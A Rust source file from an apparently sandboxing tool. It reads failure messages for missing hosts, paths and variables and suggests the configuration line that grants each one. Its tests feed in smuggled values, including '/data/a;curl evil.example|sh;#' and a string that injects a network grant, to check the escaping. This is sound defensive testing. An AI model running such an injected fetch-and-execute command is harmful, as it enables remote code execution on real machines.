//! Finds in a failure the hosts, paths and variables that a cell may lack, and names the line that adds each.
//!
//! The texts for agents state what was refused or named, and never whether a path exists outside. No text recommends
//! opening a file that holds credentials, since a source could bring that about by printing its name.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Component, Path, PathBuf};
use std::time::Instant;

use portcullis_core::escape::{escape_hidden, plain_shell_word, toml_string};

use super::credentials::{holds_home, is_credential};
use super::process_cell::{PreparedSource, ProcessCell};
use super::system_mounts;

/// Words of the system's errors for a file that is missing or must not be used.
const UNAVAILABLE_PHRASES: [&str; 6] =
    ["enoent", "no such file", "eacces", "eperm", "permission denied", "operation not permitted"];

/// Phrases with which programs say the same in their own words. They count only for a path that the command names, as
/// `404 Not Found: /repos` is not about a file.
const UNAVAILABLE_PHRASES_IF_NAMED: [&str; 5] =
    ["not found", "does not exist", "cannot find", "cannot access", "accessible"];

const READ_ONLY: [&str; 2] = ["erofs", "read-only file system"];

/// Phrases for a file that cannot be renamed, replaced or removed because it is a mount point.
const BUSY: [&str; 3] = ["ebusy", "device or resource busy", "resource busy or locked"];

/// The fewest components of the path of a folder that a message names. One with fewer holds much more than one
/// program's files.
const MIN_FOLDER_COMPONENTS: usize = 3;

/// The largest number of entries in one message.
const MAX_SHOWN: usize = 4;

/// The longest part of a failure that is searched, in bytes.
const MAX_SEARCHED_BYTES: usize = 16 << 10;

/// The longest path that a message repeats, in bytes. A longer one is not a path that a person named.
const MAX_SHOWN_BYTES: usize = 256;

/// The largest number of different variables that are found in one text.
const MAX_VARIABLES: usize = 16;

/// The fewest bytes of a variable's name. Shorter words in capitals are abbreviations.
const MIN_NAME_BYTES: usize = 6;

/// Beginnings of words in capitals that are not reported as missing variables: errors, and settings of runtimes and
/// proxies.
const NOT_SUGGESTED_PREFIXES: [&str; 11] = [
    "ERR_",
    "UND_ERR",
    "SIG",
    "NODE_OPTIONS",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "MODULE_NOT_FOUND",
    "UNEXPECTED_EOF",
    "CERTIFICATE_VERIFY",
    "UNSUPPORTED_",
];

/// A host, path or variable that a cell may lack.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum MissingAccess {
    /// A host that was refused, as `host:port`.
    Host(String),
    /// A path that a message names and the cell does not have.
    Read(PathBuf),
    /// A path that a message names and that the source must not write.
    Write(PathBuf),
    /// The folder of a path that a message names, in which the source must not make, replace or remove files.
    Folder(PathBuf),
    /// An environment variable that a message names and the source does not have.
    Variable(String),
}

impl fmt::Display for MissingAccess {
    /// Writes the refused access, the line of the configuration that allows it, and the switch of `portcullis wrap`.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Text from a source must stay one value of the line, and one word of the command.
        let forms = |path: &Path| {
            let path = path.to_string_lossy();
            (escape_hidden(&path).into_owned(), toml_string(&path), plain_shell_word(&path))
        };
        match self {
            Self::Host(host) => {
                write!(
                    f,
                    "its cell refused {host}; to allow it, add `network = [\"{host}\"]` to its `cell`, or the switch `--network {host}`"
                )
            }
            Self::Read(file) => {
                let (file, value, word) = forms(file);
                write!(
                    f,
                    "its cell does not have {file}; to open it, add `read = [{value}]` to its `cell`, or the switch `--read {word}`"
                )
            }
            Self::Write(file) => {
                let (file, value, word) = forms(file);
                write!(
                    f,
                    "its cell does not let it write {file}; to allow it, add `write = [{value}]` to its `cell`, or the switch `--write {word}`"
                )
            }
            Self::Folder(folder) => {
                let (folder, value, word) = forms(folder);
                write!(
                    f,
                    "its cell does not let it make, replace or remove files in {folder}; to allow it, add `write = [{value}]` to its `cell`, or the switch `--write {word}`"
                )
            }
            Self::Variable(name) => {
                write!(
                    f,
                    "it was not given {name}; if it needs this variable, add it to its `env`, or the switch `--env {name}=…`"
                )
            }
        }
    }
}

impl MissingAccess {
    /// Reports whether this is a path to read that exists outside the cell. Returns `None` if that cannot be known
    /// without asking another machine.
    pub(crate) fn exists_outside(&self) -> Option<bool> {
        match self {
            #[cfg(target_os = "linux")]
            Self::Read(path) => crate::local_path::exists(path),
            #[cfg(not(target_os = "linux"))]
            Self::Read(_) => None,
            _ => Some(false),
        }
    }

    /// Returns the text for the person who runs the broker. Only they learn whether a path exists outside, if that is
    /// known.
    pub(crate) fn for_the_person(&self, exists_outside: Option<bool>) -> String {
        match (self, exists_outside) {
            (_, Some(true)) => format!("{self} (it exists outside)"),
            (Self::Read(_), Some(false)) => format!(
                "{self} (it does not exist outside; if the source is to make it, its cell needs `write` for the folder)"
            ),
            _ => self.to_string(),
        }
    }
}

impl ProcessCell {
    /// Returns the access that the source may have lacked when something failed: hosts that it was refused since
    /// `then`, and paths that the text of the failure names. Paths that exist outside are also logged, for the person
    /// who runs the broker. If `since` is `None`, refused hosts are left out, as they may be those of other calls.
    pub fn missing_access(&self, then: Option<Instant>, failure: &str) -> Vec<MissingAccess> {
        let missing = self.collect_missing(then, failure, Vec::new());
        self.report_missing(&missing);
        missing
    }

    /// Returns what a source that did not start may have lacked: the findings of [`Self::missing_access`], and the
    /// variables that its message names and it does not have.
    pub fn missing_access_at_start(&self, then: Instant, failure: &str) -> Vec<MissingAccess> {
        let missing = |name: &String| !self.has_variable(name);
        let variables = variables_in(failure).into_iter().filter(missing).map(MissingAccess::Variable).collect();
        let missing = self.collect_missing(Some(then), failure, variables);
        self.report_missing(&missing);
        missing
    }

    /// Returns at most [`MAX_SHOWN`] things that the cell may lack. Names from the failure itself come before the
    /// refused hosts, which may be many.
    fn collect_missing(
        &self,
        then: Option<Instant>,
        failure: &str,
        variables: Vec<MissingAccess>,
    ) -> Vec<MissingAccess> {
        let described = self.described();
        let files = described.map(|described| self.files_in(searched(failure), &described)).unwrap_or_default();
        let hosts = then.map(|then| self.refused().since(then)).unwrap_or_default();
        let mut missing: Vec<MissingAccess> = files.into_iter().take(MAX_SHOWN / 2).collect();
        missing.extend(variables.into_iter().take(MAX_SHOWN / 2));
        missing.extend(hosts.into_iter().map(MissingAccess::Host));
        missing.truncate(MAX_SHOWN);
        missing
    }

    /// Returns the paths that a failure names and that the source cannot use.
    fn files_in(&self, failure: &str, described: &PreparedSource) -> Vec<MissingAccess> {
        let lower = failure.to_lowercase();
        let says = |words: &[&str]| words.iter().any(|word| lower.contains(word));
        let (missing, missing_if_named) = (says(&UNAVAILABLE_PHRASES), says(&UNAVAILABLE_PHRASES_IF_NAMED));
        let (read_only, busy) = (says(&READ_ONLY), says(&BUSY));
        let (grant, needs) = (&described.grant, &described.needs);
        let within = |path: &Path, all: &[PathBuf]| all.iter().any(|known| path.starts_with(known));
        let programs = self.cells.programs();
        let mut found = BTreeMap::new();
        for (at, path) in paths_in(failure).into_iter().enumerate() {
            // A granted path may lie in a folder that the cell otherwise replaces with its own, such as `/tmp`, so the
            // grant is checked first. Every stack trace names the files of the program itself, which it need not write.
            let granted = within(&path, &grant.read);
            // So does the name by which the program was started, which may be a link.
            let of_program = path == needs.program
                || needs.links.contains_key(&path)
                || needs.read.iter().any(|known| path.starts_with(known));
            let named = || is_named(&path, described);
            let home = programs.home.as_deref();
            let folder = folder_to_write(&path, home).map(MissingAccess::Folder);
            // A grant that is a file is a mount point.
            let is_granted_itself = grant.read.contains(&path) || grant.write.contains(&path);
            // A program creates its own files in `/tmp` and looks into `/etc`, so only paths that were asked for count
            // there.
            let is_replaced = || {
                system_mounts::is_shared_or_replaced(&path)
                    && !(system_mounts::can_be_granted(&path) && (named() || is_beside_named(&path, described)))
            };
            let (access, folder) = match within(&path, &grant.write) {
                _ if busy && is_granted_itself => (None, folder),
                true => continue,
                false if is_credential(&path, home) => continue,
                false if read_only && granted => (Some(MissingAccess::Write(path)), folder),
                false if granted || of_program || is_replaced() => continue,
                false if read_only => (Some(MissingAccess::Write(path)), folder),
                false if missing || (missing_if_named && named()) => (Some(MissingAccess::Read(path)), None),
                false => continue,
            };
            for access in access.into_iter().chain(folder) {
                found.entry(access).or_insert(at);
            }
        }
        if missing || missing_if_named {
            let relative = described.named.named_relatively_in(failure).into_iter();
            let lacking = |path: &PathBuf| {
                let is_in_cell = within(path, &grant.read) || within(path, &grant.write);
                let is_of_program = needs.read.iter().any(|known| path.starts_with(known));
                !is_in_cell && !is_of_program && !is_credential(path, programs.home.as_deref())
            };
            for path in relative.filter(lacking) {
                found.entry(MissingAccess::Read(path)).or_insert(0);
            }
        }
        let mut found: Vec<(MissingAccess, usize)> = found.into_iter().collect();
        found.sort_by_key(|(_, at)| *at);
        found.into_iter().map(|(access, _)| access).collect()
    }
}

/// Reports whether the source's command names a path, or a folder that it lies in.
fn is_named(path: &Path, described: &PreparedSource) -> bool {
    described.named.all().any(|named| path.starts_with(named))
}

/// Reports whether a path lies in the same folder as one that the source's command names. The folder itself is not one
/// that holds the files of many programs.
fn is_beside_named(path: &Path, described: &PreparedSource) -> bool {
    let folder = path.parent().filter(|folder| folder.components().count() >= MIN_FOLDER_COMPONENTS);
    folder.is_some() && described.named.all().any(|named| named.parent() == folder)
}

/// Returns the folder in which a file is made, replaced or removed, unless it holds a home, credentials or much else.
fn folder_to_write(file: &Path, home: Option<&Path>) -> Option<PathBuf> {
    let folder = file.parent().filter(|folder| folder.components().count() >= MIN_FOLDER_COMPONENTS)?;
    let is_refused = holds_home(folder, home)
        || is_credential(folder, home)
        || system_mounts::is_shared_or_replaced(folder) && !folder.starts_with("/tmp");
    (!is_refused).then(|| folder.to_owned())
}

/// Returns the beginning of a failure, which is all that is searched.
fn searched(text: &str) -> &str {
    text.get(..text.floor_char_boundary(MAX_SEARCHED_BYTES.min(text.len()))).unwrap_or_default()
}

/// Returns the absolute paths in a text. A path in quotation marks ends at the closing mark; any other ends at white
/// space, a mark or a bracket. Paths with `..` are left out.
fn paths_in(text: &str) -> Vec<PathBuf> {
    let ends = |c: char| c.is_whitespace() || "'\"`,;:()[]{}<>|\\".contains(c);
    let mut paths = Vec::new();
    let (mut rest, mut before) = (text, None);
    while let Some(first) = rest.chars().next() {
        let length = match before {
            Some(mark @ ('\'' | '"' | '`')) if first == '/' => rest.find(mark).or_else(|| rest.find(ends)),
            before if first == '/' && before.is_none_or(ends) => rest.find(ends),
            _ => Some(0),
        };
        let (word, after) = rest.split_at(length.unwrap_or(rest.len()));
        let path = word.trim_end_matches(['.', '/']);
        // A path with `..` leads elsewhere, so that credentials could be recommended.
        let leads_up = || Path::new(word).components().any(|part| part == Component::ParentDir);
        if (2..=MAX_SHOWN_BYTES).contains(&path.len()) && !path.starts_with("//") && !path.contains('\n') && !leads_up()
        {
            paths.push(PathBuf::from(path));
        }
        before = after.chars().next().or(Some(first));
        rest = after.get(before.map_or(0, char::len_utf8)..).unwrap_or_default();
    }
    paths
}

/// Returns the names in the beginning of a text that look like environment variables: capitals, digits and at least one
/// underscore. Each is returned once, in the order of the text; at most 16.
#[must_use]
pub fn variables_in(text: &str) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for word in searched(text).split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
        let word = word.trim_matches('_');
        let capitals = word.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
        let shaped =
            word.len() >= MIN_NAME_BYTES && word.contains('_') && word.starts_with(|c: char| c.is_ascii_uppercase());
        let other = NOT_SUGGESTED_PREFIXES.iter().any(|other| word.starts_with(other));
        if capitals && shaped && !other && !names.iter().any(|known| known == word) {
            names.push(word.to_owned());
            if names.len() == MAX_VARIABLES {
                break;
            }
        }
    }
    names
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]
    use super::*;

    #[test]
    fn no_message_recommends_to_write_a_home_or_credentials() {
        let home = Some(Path::new("/home/me"));
        let recommended = |file: &str| folder_to_write(Path::new(file), home);
        for (file, folder) in [("/home/me/notes/a.json", "/home/me/notes"), ("/srv/data/a", "/srv/data")] {
            assert_eq!(recommended(file).as_deref(), Some(Path::new(folder)));
        }
        assert_eq!(recommended("/tmp/notes/a.json"), Some("/tmp/notes".into()), "a cell has a `/tmp` of its own");
        for file in [
            "/a",
            "/data/a",
            "/home/me/a",
            "/home/me",
            "/home/you/a",
            "/root/a",
            "/tmp/a",
            "/home/me/.config/a",
            "/home/me/.ssh/a",
            "/srv/.portcullis/a",
            "/proc/self/a",
            "/usr/lib/a",
            "/etc/server/a",
        ] {
            assert_eq!(recommended(file), None, "{file}");
        }
    }

    #[test]
    fn variables_are_told_from_other_words_in_capitals() {
        let text = "Error: BRAVE_API_KEY environment variable is required (code ERR_MODULE_NOT_FOUND, ENOENT, HTTP)\n\
                    set BRAVE_API_KEY or TAVILY_API_KEY=…, not SIGTERM_X";
        assert_eq!(variables_in(text), ["BRAVE_API_KEY", "TAVILY_API_KEY"]);
    }

    #[test]
    fn a_path_stays_one_value_and_one_word_of_what_is_recommended() {
        for path in ["/data/notes\"], network = [\"evil.example:443", "/data/a;curl evil.example|sh;#", "/data/a b\\"] {
            for missing in [MissingAccess::Read, MissingAccess::Write, MissingAccess::Folder].map(|of| of(path.into()))
            {
                let text = missing.to_string();
                let (_, rest) = text.split_once("add `").unwrap();
                let (line, rest) = rest.split_once("` to its `cell`, or the switch `").unwrap();
                let (_, value) = line.split_once(" = ").unwrap();
                assert_eq!(value, format!("[{}]", toml_string(path)), "{text}");
                let (_, word) = rest.trim_end_matches('`').split_once(' ').unwrap();
                assert_eq!(word, format!("'{path}'"), "{text}");
            }
        }
    }

    #[test]
    fn paths_are_found_between_the_marks_that_programs_put_around_them() {
        let text = "ENOENT: no such file or directory, open '/data/a b/c.md' (/srv/x.db) see https://example.com/y /z. /. \
                    /... a/b \"/q/r\" /home/me/x/../.ssh/config '/srv/..' '/unclosed";
        let found: Vec<_> = paths_in(text).into_iter().map(|path| path.display().to_string()).collect();
        assert_eq!(found, ["/data/a b/c.md", "/srv/x.db", "/z", "/q/r", "/unclosed"]);
    }
}
